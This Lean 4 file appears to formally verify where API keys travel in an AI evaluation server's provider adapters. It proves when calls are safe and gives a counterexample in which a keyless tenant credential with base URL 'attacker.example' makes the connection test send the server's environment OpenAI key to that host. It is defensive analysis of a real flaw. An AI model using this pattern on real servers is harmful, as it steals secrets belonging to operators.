import AgentEval.Providers.Calls

/-!
# Where keys go

The paths to an adapter are followed with texts that say where the server has read them: in its
environment, or in a credential that was stored for some provider. A call is safe when a stored key
goes to the provider it was stored for and no key of the environment goes to an endpoint that a
credential has given. None of the paths compares the provider of the credential with the provider it
calls, and each of them merges the fields of the credential one by one.

* **`keys_stay_iff`**: the calls of a request are safe exactly when the credential it uses has a key
  and was stored for the provider of the request, or has no key and there is no base URL or no key of
  the environment.
* **`key_leaves`**: a credential without a key sends the key of the environment to its own endpoint.
-/

namespace AgentEval.Providers

open Js Store Api Auth Worker

/-- Where the server has read a text. -/
inductive Origin where
  /-- In its environment. -/
  | environment
  /-- In a credential stored for a provider. -/
  | credential (providerId : JsString)

/-- A text and where it was read. -/
structure Labelled where
  /-- The text. -/
  text : JsString
  /-- Where it was read. -/
  origin : Origin

/-- The environment with labels. -/
def labelEnv (env : JsString → Option JsString) (name : JsString) : Option Labelled :=
  (env name).map (⟨·, .environment⟩)

/-- What a credential reveals, with labels. -/
def labelRevealed (revealed : Revealed JsString) : Revealed Labelled :=
  ⟨revealed.apiKey.map (⟨·, .credential revealed.providerId⟩),
    revealed.baseUrl.map (⟨·, .credential revealed.providerId⟩), revealed.providerId⟩

/-- The credential store with labels. -/
def labelReveal {σ : Type} (reveal : Resolver σ JsString) : Resolver σ Labelled :=
  fun tenantId id s =>
    ((reveal tenantId id s).1.map (Option.map labelRevealed), (reveal tenantId id s).2)

/-- A stored key goes to the adapter of the provider it was stored for, and a key of the environment
goes to no endpoint of a credential. -/
structure AdapterCall.Safe (call : AdapterCall Labelled) : Prop where
  stays : ∀ key ∈ call.config.apiKey, ∀ providerId, key.origin = .credential providerId →
    providerId = call.provider
  apart : ∀ key ∈ call.config.apiKey, ∀ url ∈ call.config.baseUrl, key.origin = .environment →
    ∀ providerId, url.origin ≠ .credential providerId

/-! ## Requests -/

/-- What leads to a call of an adapter. -/
inductive ProviderRequest where
  /-- The execution of a run; the worker may have the credential store. -/
  | execute (enabled hasCredentials : Bool) (runId : JsString) (model : Option RunModel)
    (run : Option RunContext)
  /-- `POST /v1/providers/test` -/
  | test (ctx : TenantContext) (providerId : JsString) (credentialId : Option JsString)
  /-- `GET /v1/providers/:id/models` -/
  | models (ctx : TenantContext) (id : JsString) (credentialId : Option QueryParam)

/-- The call of an execution. -/
def Executed.call? {α : Type} : Executed α → Option (AdapterCall α)
  | .failed _ _ => none
  | .generate call _ _ => some call

/-- The call of a reply. -/
def ProviderReply.call? {α : Type} : ProviderReply α → Option (AdapterCall α)
  | .call c => some c
  | _ => none

section

variable {σ α : Type} (text : α → JsString) (env : JsString → Option α) (reveal : Resolver σ α)

/-- The call a request leads to. -/
def ProviderRequest.call (s : σ) : ProviderRequest → Option (AdapterCall α)
  | execute enabled hasCredentials runId model run =>
    (ModelExecutor.execute text env ⟨enabled, if hasCredentials then some reveal else none⟩ runId
      model run s).1.call?
  | test ctx providerId credentialId =>
    (testConnection text env reveal ctx providerId credentialId s).1.call?
  | models ctx id credentialId => (listModels text env reveal ctx id credentialId s).1.call?

/-- A request that names a credential and passes the checks before it: the tenant, the credential
and the provider it is for. -/
def ProviderRequest.names : ProviderRequest → Option (JsString × JsString × JsString)
  | execute enabled hasCredentials _ model run =>
    if enabled && hasCredentials then do
      let (providerId, _) ← route ((model.bind (·.identifier)).getD [])
      let provider ← providerRegistry.find? (·.id = providerId)
      let run ← run
      let credentialId ← present run.credentialId
      return (run.tenantId, credentialId, provider.id)
    else none
  | test ctx providerId credentialId =>
    if js "runs:read" ∈ ctx.scopes ∧ ProviderRegistry.has providerId = true then
      (present credentialId).map (ctx.tenantId, ·, providerId)
    else none
  | models ctx id credentialId =>
    if js "runs:read" ∈ ctx.scopes then do
      let provider ← providerRegistry.find? (·.id = id)
      match credentialId.filter QueryParam.truthy with
      | some (.single credentialId) => return (ctx.tenantId, credentialId, provider.id)
      | _ => none
    else none

variable {text env reveal} {s : σ}

/-- All adapters can list models. -/
theorem listModels_of_mem {provider : ModelProvider} (h : provider ∈ providerRegistry) :
    provider.listModels = true := by
  unfold providerRegistry at h
  obtain ⟨id, -, rfl⟩ := List.mem_map.mp h
  rfl

/-- The configuration of a run that reaches the adapter. -/
theorem runConfig_eq_ok {resolve : Option (Resolver σ α)} {providerId : JsString}
    {run : Option RunContext} {config : ProviderConfig α}
    (h : (runConfig text env resolve providerId run s).1 = .ok config) :
    config = resolveConfig text env providerId ∨
      ∃ r credentialId reveal revealed, run = some r ∧ present r.credentialId = some credentialId ∧
        resolve = some reveal ∧ (reveal r.tenantId credentialId s).1 = .ok (some revealed) ∧
        config = (resolveConfig text env providerId).merge revealed := by
  unfold runConfig at h
  cases run with
  | none => exact .inl (Except.ok.inj h).symm
  | some r =>
    cases hid : present r.credentialId with
    | none =>
      rw [Option.bind_some, hid] at h
      exact .inl (Except.ok.inj h).symm
    | some id =>
      rw [Option.bind_some, hid] at h
      cases resolve with
      | none => cases h
      | some reveal =>
        dsimp only [Option.map_some] at h
        rcases hreveal : reveal r.tenantId id s with ⟨_ | _ | revealed, s'⟩
        · rw [hreveal] at h
          cases h
        · rw [hreveal] at h
          cases h
        · rw [hreveal] at h
          refine .inr ⟨r, id, reveal, revealed, rfl, hid, rfl, ?_, (Except.ok.inj h).symm⟩
          rw [hreveal]

/-- The provider found under an identifier has it. -/
theorem find_provider {providerId : JsString} {provider : ModelProvider}
    (h : providerRegistry.find? (·.id = providerId) = some provider) : provider.id = providerId := by
  simpa using List.find?_some h

/-- A listed provider is found. -/
theorem exists_provider {providerId : JsString} {provider : ModelProvider}
    (h : ProviderRegistry.get providerId = .ok provider) :
    providerRegistry.find? (·.id = providerId) = some provider := by
  unfold ProviderRegistry.get at h
  split at h
  · cases h
  · rename_i found hfound
    rw [hfound, Except.ok.inj h]

/-- **The call of a request** has the configuration of the environment, or what the credential it
names reveals merged into it. -/
theorem call_cases {request : ProviderRequest} {call : AdapterCall α}
    (h : request.call text env reveal s = some call) :
    call.config = resolveConfig text env call.provider ∨
      ∃ tenantId id revealed, request.names = some (tenantId, id, call.provider) ∧
        (reveal tenantId id s).1 = .ok (some revealed) ∧
        call.config = (resolveConfig text env call.provider).merge revealed := by
  cases request with
  | execute enabled hasCredentials runId model run =>
    rw [ProviderRequest.call, ModelExecutor.execute] at h
    cases enabled with
    | false => cases h
    | true =>
      rw [show ModelExecutor.unavailableReason
        ⟨true, if hasCredentials then some reveal else none⟩ = none from rfl] at h
      dsimp only at h
      cases hroute : route ((model.bind (·.identifier)).getD []) with
      | none =>
        rw [hroute] at h
        cases h
      | some routed =>
        obtain ⟨providerId, modelId⟩ := routed
        rw [hroute] at h
        dsimp only at h
        cases hprovider : ProviderRegistry.get providerId with
        | error e =>
          rw [hprovider] at h
          cases h
        | ok provider =>
          rw [hprovider] at h
          dsimp only at h
          have hfind := exists_provider hprovider
          obtain rfl := find_provider hfind
          rcases hconfig : runConfig text env (if hasCredentials then some reveal else none)
            provider.id run s with ⟨reason | config, s'⟩
          · rw [hconfig] at h
            cases h
          · rw [hconfig] at h
            obtain rfl := (Option.some.inj h).symm
            rcases runConfig_eq_ok (congrArg Prod.fst hconfig) with rfl |
              ⟨r, id, resolve, revealed, rfl, hid, hresolve, hrevealed, rfl⟩
            · exact .inl rfl
            · cases hasCredentials with
              | false => cases hresolve
              | true =>
                obtain rfl := Option.some.inj hresolve
                refine .inr ⟨r.tenantId, id, revealed, ?_, hrevealed, rfl⟩
                rw [ProviderRequest.names]
                simp [hroute, hfind, hid]
  | test ctx providerId credentialId =>
    rw [ProviderRequest.call, testConnection] at h
    by_cases hscope : js "runs:read" ∉ ctx.scopes
    · rw [if_pos hscope] at h
      cases h
    rw [if_neg hscope] at h
    by_cases hknown : ProviderRegistry.has providerId = false
    · rw [if_pos hknown] at h
      cases h
    rw [if_neg hknown] at h
    cases hid : present credentialId with
    | none =>
      rw [hid] at h
      obtain rfl := (Option.some.inj h).symm
      exact .inl rfl
    | some id =>
      rw [hid] at h
      dsimp only at h
      rcases hreveal : reveal ctx.tenantId id s with ⟨_ | _ | revealed, s'⟩
      · rw [hreveal] at h
        cases h
      · rw [hreveal] at h
        cases h
      · rw [hreveal] at h
        obtain rfl := (Option.some.inj h).symm
        refine .inr ⟨ctx.tenantId, id, revealed, ?_, congrArg Prod.fst hreveal, rfl⟩
        rw [ProviderRequest.names]
        rw [if_pos ⟨not_not.mp hscope, by simpa using hknown⟩, hid]
        rfl
  | models ctx id credentialId =>
    rw [ProviderRequest.call, listModels] at h
    by_cases hscope : js "runs:read" ∉ ctx.scopes
    · rw [if_pos hscope] at h
      cases h
    rw [if_neg hscope] at h
    cases hfind : providerRegistry.find? (·.id = id) with
    | none =>
      rw [hfind] at h
      cases h
    | some provider =>
      rw [hfind] at h
      dsimp only at h
      obtain rfl := find_provider hfind
      rw [if_neg (by simp [listModels_of_mem (List.mem_of_find?_eq_some hfind)])] at h
      rcases hnamed : revealNamed reveal ctx.tenantId credentialId s with ⟨_ | _ | revealed, s'⟩
      · rw [hnamed] at h
        cases h
      · rw [hnamed] at h
        obtain rfl := (Option.some.inj h).symm
        exact .inl rfl
      · rw [hnamed] at h
        obtain rfl := (Option.some.inj h).symm
        unfold revealNamed at hnamed
        split at hnamed
        · rename_i id hid
          refine .inr ⟨ctx.tenantId, id, revealed, ?_, congrArg Prod.fst hnamed, rfl⟩
          rw [ProviderRequest.names]
          rw [if_pos (not_not.mp hscope), hfind]
          simp [hid]
        · cases hnamed

/-- **The call of a request that names a credential** which is revealed. -/
theorem call_of_names {request : ProviderRequest} {tenantId id provider : JsString}
    {revealed : Revealed α} (h : request.names = some (tenantId, id, provider))
    (hrevealed : (reveal tenantId id s).1 = .ok (some revealed)) :
    request.call text env reveal s =
      some ⟨provider, (resolveConfig text env provider).merge revealed⟩ := by
  obtain ⟨s', hreveal⟩ : ∃ s', reveal tenantId id s = (.ok (some revealed), s') :=
    ⟨_, Prod.ext hrevealed rfl⟩
  cases request with
  | execute enabled hasCredentials runId model run =>
    rw [ProviderRequest.names] at h
    cases enabled with
    | false => cases h
    | true =>
      cases hasCredentials with
      | false => cases h
      | true =>
        cases hroute : route ((model.bind (·.identifier)).getD []) with
        | none =>
          rw [hroute] at h
          cases h
        | some routed =>
          obtain ⟨providerId, modelId⟩ := routed
          cases hfind : providerRegistry.find? (·.id = providerId) with
          | none => simp [hroute, hfind] at h
          | some found =>
            cases run with
            | none => simp [hroute] at h
            | some run =>
              cases hid : present run.credentialId with
              | none => simp [hroute, hid] at h
              | some id' =>
                simp only [hroute, hfind, hid, Bool.and_self, if_true, Option.pure_def,
                  Option.bind_eq_bind, Option.bind_some, Option.some.injEq, Prod.mk.injEq] at h
                obtain ⟨rfl, rfl, rfl⟩ := h
                obtain rfl := find_provider hfind
                have hget : ProviderRegistry.get found.id = .ok found := by
                  unfold ProviderRegistry.get
                  rw [hfind]
                have hconfig : runConfig text env (some reveal) found.id (some run) s =
                    (.ok ((resolveConfig text env found.id).merge revealed), s') := by
                  unfold runConfig
                  rw [Option.bind_some, hid]
                  dsimp only [Option.map_some]
                  rw [hreveal]
                rw [ProviderRequest.call, ModelExecutor.execute]
                rw [if_pos rfl, show ModelExecutor.unavailableReason
                  ⟨true, some reveal⟩ = none from rfl]
                dsimp only
                rw [hroute]
                dsimp only
                rw [hget]
                dsimp only
                rw [hconfig]
                rfl
  | test ctx providerId credentialId =>
    rw [ProviderRequest.names] at h
    split_ifs at h with hpasses
    cases hid : present credentialId with
    | none =>
      rw [hid] at h
      cases h
    | some id' =>
      rw [hid] at h
      cases h
      rw [ProviderRequest.call, testConnection]
      rw [if_neg (not_not.mpr hpasses.1), if_neg (by simp [hpasses.2]), hid]
      dsimp only
      rw [hreveal]
      rfl
  | models ctx id' credentialId =>
    rw [ProviderRequest.names] at h
    split_ifs at h with hscope
    cases hfind : providerRegistry.find? (·.id = id') with
    | none =>
      rw [hfind] at h
      cases h
    | some found =>
      rw [hfind] at h
      dsimp only [Option.bind_eq_bind, Option.bind_some] at h
      split at h
      · rename_i credentialId' hid
        cases h
        obtain rfl := find_provider hfind
        have hnamed : revealNamed reveal ctx.tenantId credentialId s =
            (.ok (some revealed), s') := by
          unfold revealNamed
          rw [hid]
          exact hreveal
        rw [ProviderRequest.call, listModels]
        rw [if_neg (not_not.mpr hscope), hfind]
        dsimp only
        rw [if_neg (by simp [listModels_of_mem (List.mem_of_find?_eq_some hfind)]), hnamed]
        rfl
      · cases h

/-- **Labels change nothing**: without them the call is that of the server. -/
theorem call_erase (env : JsString → Option JsString) (reveal : Resolver σ JsString) (s : σ)
    (request : ProviderRequest) :
    (request.call Labelled.text (labelEnv env) (labelReveal reveal) s).map
        (AdapterCall.map Labelled.text) = request.call id env reveal s := by
  have herased : ∀ (o : Option JsString) (origin : Origin),
      (o.map (Labelled.mk · origin)).map Labelled.text = o := by
    intro o origin
    cases o <;> rfl
  have henv : (fun name => (labelEnv env name).map Labelled.text) = env :=
    funext fun name => herased (env name) _
  have hrevealed : ∀ r, mapRevealed Labelled.text (labelRevealed r) = r := by
    intro r
    unfold mapRevealed labelRevealed
    rw [herased, herased]
  have hreveal : (labelReveal reveal).map Labelled.text = reveal := by
    funext tenantId id s
    unfold Resolver.map labelReveal
    refine Prod.ext ?_ rfl
    dsimp only
    rcases (reveal tenantId id s).1 with e | _ | r
    · rfl
    · rfl
    · exact congrArg (Except.ok ∘ some) (hrevealed r)
  have hexecuted : ∀ executed : Executed Labelled,
      (executed.map Labelled.text).call? = executed.call?.map (AdapterCall.map Labelled.text) := by
    intro executed
    cases executed <;> rfl
  have hreply : ∀ reply : ProviderReply Labelled,
      (reply.map Labelled.text).call? = reply.call?.map (AdapterCall.map Labelled.text) := by
    intro reply
    cases reply <;> rfl
  have htext : ∀ a : Labelled, id (Labelled.text a) = Labelled.text a := fun _ => rfl
  cases request with
  | execute enabled hasCredentials runId model run =>
    have h := @execute_map _ _ _ _ _ _ (labelEnv env) htext
      ⟨enabled, if hasCredentials then some (labelReveal reveal) else none⟩ runId model run s
    have hresolve : (if hasCredentials then some (labelReveal reveal) else none).map
        (Resolver.map Labelled.text) = if hasCredentials then some reveal else none := by
      cases hasCredentials
      · rfl
      · exact congrArg some hreveal
    rw [henv, hresolve] at h
    rw [ProviderRequest.call, ProviderRequest.call, ← hexecuted, h]
  | test ctx providerId credentialId =>
    have h := @testConnection_map _ _ _ _ _ _ (labelEnv env) htext (labelReveal reveal) ctx providerId
      credentialId s
    rw [henv, hreveal] at h
    rw [ProviderRequest.call, ProviderRequest.call, ← hreply, h]
  | models ctx id credentialId =>
    have h := @listModels_map _ _ _ _ _ _ (labelEnv env) htext (labelReveal reveal) ctx id credentialId s
    rw [henv, hreveal] at h
    rw [ProviderRequest.call, ProviderRequest.call, ← hreply, h]

end

/-! ## Which calls are safe -/

/-- The key of a provider in the environment.
Source: `registry.ts`, `resolveConfig` -/
def environmentKey (env : JsString → Option JsString) (providerId : JsString) : Option JsString :=
  ((envKeys.lookup providerId).bind env).filter (· ≠ [])

/-- A credential with this key can be used for a provider: it has a key and was stored for that
provider, or it has none, and there is no base URL or no key in the environment. -/
def Separate (env : JsString → Option JsString) (provider : JsString) (key : Option JsString)
    (c : ProviderCredentialRecord) : Prop :=
  match present key with
  | some _ => c.providerId = provider
  | none => present c.baseUrl = none ∨ environmentKey env provider = none

section

variable {env : JsString → Option JsString} {provider : JsString}

/-- The configuration from the environment is labelled so. -/
theorem resolveConfig_label :
    resolveConfig Labelled.text (labelEnv env) provider =
      (resolveConfig id env provider).map (⟨·, .environment⟩) :=
  resolveConfig_map (fun _ => rfl) provider

/-- A call with the configuration of the environment is safe. -/
theorem safe_environment {call : AdapterCall Labelled}
    (h : call.config = resolveConfig Labelled.text (labelEnv env) call.provider) : call.Safe := by
  rw [resolveConfig_label] at h
  constructor
  · intro key hkey providerId horigin
    rw [h] at hkey
    obtain ⟨k, -, rfl⟩ := Option.map_eq_some_iff.mp hkey
    cases horigin
  · intro key _ url hurl _ providerId horigin
    rw [h] at hurl
    obtain ⟨u, -, rfl⟩ := Option.map_eq_some_iff.mp hurl
    cases horigin

/-- **A call with a credential** is safe when the credential can be used for the provider. -/
theorem safe_merge_iff {key : Option JsString} {c : ProviderCredentialRecord} :
    AdapterCall.Safe ⟨provider, (resolveConfig Labelled.text (labelEnv env) provider).merge
        (labelRevealed ⟨present key, present c.baseUrl, c.providerId⟩)⟩ ↔
      Separate env provider key c := by
  rw [resolveConfig_label]
  unfold Separate ProviderConfig.merge labelRevealed
  cases present key with
  | some k =>
    constructor
    · exact fun h => h.stays _ rfl _ rfl
    · intro hprovider
      constructor
      · intro key hkey providerId horigin
        obtain rfl := Option.some.inj hkey
        exact (Origin.credential.inj horigin).symm.trans hprovider
      · intro key hkey url _ horigin
        obtain rfl := Option.some.inj hkey
        cases horigin
  | none =>
    have hkeys : ((resolveConfig id env provider).map (Labelled.mk · .environment)).apiKey =
        (environmentKey env provider).map (Labelled.mk · .environment) := rfl
    dsimp only [Option.map_none]
    rw [show (none <|> ((resolveConfig id env provider).map
      (Labelled.mk · .environment)).apiKey) = _ from hkeys]
    cases henv : environmentKey env provider with
    | none =>
      refine iff_of_true ⟨?_, ?_⟩ (.inr rfl)
      · intro key hkey
        cases hkey
      · intro key hkey
        cases hkey
    | some k =>
      cases present c.baseUrl with
      | none =>
        refine iff_of_true ⟨?_, ?_⟩ (.inl rfl)
        · intro key hkey providerId horigin
          obtain rfl := Option.some.inj hkey
          cases horigin
        · intro key _ url hurl _ providerId horigin
          obtain ⟨u, -, rfl⟩ := Option.map_eq_some_iff.mp hurl
          cases horigin
      | some u =>
        refine iff_of_false ?_ (by simp)
        exact fun h => h.apart _ rfl _ rfl rfl _ rfl

end

/-- What is revealed with labels is what is revealed. -/
theorem labelReveal_eq_ok {σ : Type} {reveal : Resolver σ JsString} {tenantId id : JsString} {s : σ}
    {revealed : Revealed Labelled}
    (h : (labelReveal reveal tenantId id s).1 = .ok (some revealed)) :
    ∃ r, (reveal tenantId id s).1 = .ok (some r) ∧ labelRevealed r = revealed := by
  unfold labelReveal at h
  dsimp only at h
  rcases hr : (reveal tenantId id s).1 with e | _ | r
  · rw [hr] at h
    cases h
  · rw [hr] at h
    cases h
  · rw [hr] at h
    exact ⟨r, rfl, Option.some.inj (Except.ok.inj h)⟩

/-- **Where keys go**: for every environment, every state of the credential store and every request,
the call of the request is safe exactly when each credential that it can read under the name it gives
can be used for the provider it is for. -/
theorem keys_stay_iff (gcm : AesGcm) (box : Option SecretBox) (env : JsString → Option JsString)
    (s : CredentialStore) (request : ProviderRequest) :
    (∀ call ∈ request.call Labelled.text (labelEnv env)
        (labelReveal (ProviderCredentialStore.revealForProviderCall gcm box)) s, call.Safe) ↔
      ∀ tenantId id provider, request.names = some (tenantId, id, provider) →
        ∀ c ∈ ProviderCredentialStore.find tenantId id s, c.revokedAt = none →
          ∀ key, ProviderCredentialStore.openKey gcm box tenantId id c = .ok key →
            Separate env provider key c := by
  constructor
  · intro hsafe tenantId id provider hnames c hfind hrevoked key hkey
    rw [← safe_merge_iff]
    apply hsafe
    apply call_of_names hnames
    unfold labelReveal
    rw [ProviderCredentialStore.revealForProviderCall_eq_ok.mpr
      (.inr ⟨c, key, hfind, hrevoked, hkey, rfl⟩)]
    rfl
  · rintro h ⟨provider, config⟩ hcall
    rcases call_cases hcall with henvironment | ⟨tenantId, id, revealed, hnames, hrevealed, hconfig⟩
    · exact safe_environment henvironment
    · obtain ⟨r, hr, hlabel⟩ := labelReveal_eq_ok hrevealed
      rcases ProviderCredentialStore.revealForProviderCall_eq_ok.mp hr with
        ⟨-, hnone⟩ | ⟨c, key, hfind, hrevoked, hkey, hreveals⟩
      · cases hnone
      · cases hreveals
        dsimp only at hconfig
        rw [hconfig, ← hlabel]
        exact safe_merge_iff.mpr (h tenantId id provider hnames c hfind hrevoked key hkey)

/-! ## A key that leaves -/

section examples

/-- A cipher that hides nothing. -/
def plainGcm : AesGcm where
  encrypt _ _ _ plaintext := (plaintext, List.replicate 16 0)
  decrypt _ _ _ ciphertext _ := some ciphertext

/-- The environment of a server with a key for OpenAI. -/
def serverEnv (name : JsString) : Option JsString :=
  if name = js "OPENAI_API_KEY" then some (js "sk-server") else none

/-- A credential of a tenant without a key. -/
def keyless : CreateCredentialInput where
  providerId := js "openai"
  name := js "mine"
  apiKey := none
  baseUrl := some (js "https://attacker.example/v1")

/-- The store in which it was created. -/
def keylessStore : CredentialStore :=
  (ProviderCredentialStore.create plainGcm none ⟨[0, 0], []⟩ (js "tenant") (js "user") keyless
    ⟨[], 0, ⟨0, TimeValue.zero_inRange⟩⟩).2

/-- The connection test of that tenant. -/
def keylessTest : ProviderRequest :=
  .test ⟨js "tenant", js "user", [js "runs:read"]⟩ (js "openai") (some (js "cred_000000"))

/-- **The key of the server leaves**: the test sends it to the base URL of the credential. -/
theorem key_leaves : ¬ ∀ call ∈ keylessTest.call Labelled.text (labelEnv serverEnv)
    (labelReveal (ProviderCredentialStore.revealForProviderCall plainGcm none)) keylessStore,
      call.Safe := by
  intro h
  have hcall : keylessTest.call Labelled.text (labelEnv serverEnv)
      (labelReveal (ProviderCredentialStore.revealForProviderCall plainGcm none)) keylessStore =
        some ⟨js "openai", some ⟨js "sk-server", .environment⟩,
          some ⟨js "https://attacker.example/v1", .credential (js "openai")⟩⟩ := rfl
  exact (h _ hcall).apart _ rfl _ rfl rfl _ rfl

end examples

end AgentEval.Providers
